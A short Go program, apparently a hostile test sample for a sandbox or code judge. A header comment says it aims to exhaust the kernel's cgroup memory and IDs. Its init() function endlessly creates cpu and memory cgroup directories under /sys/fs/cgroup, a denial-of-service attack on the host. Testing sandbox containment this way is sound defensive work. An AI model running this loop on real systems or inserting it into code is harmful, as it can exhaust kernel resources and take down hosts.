// Tries: to take all of the memory and the ids that the kernel has for groups.
// Deserves: nothing
package main

import (
	"fmt"
	"os"
)

func init() {
	if len(os.Args) < 2 || os.Args[1] != "run" {
		return
	}
	for i := 0; ; i++ {
		for _, controller := range []string{"cpu", "memory"} {
			os.Mkdir(fmt.Sprintf("/sys/fs/cgroup/%s/x%d", controller, i), 0o755)
		}
	}
}
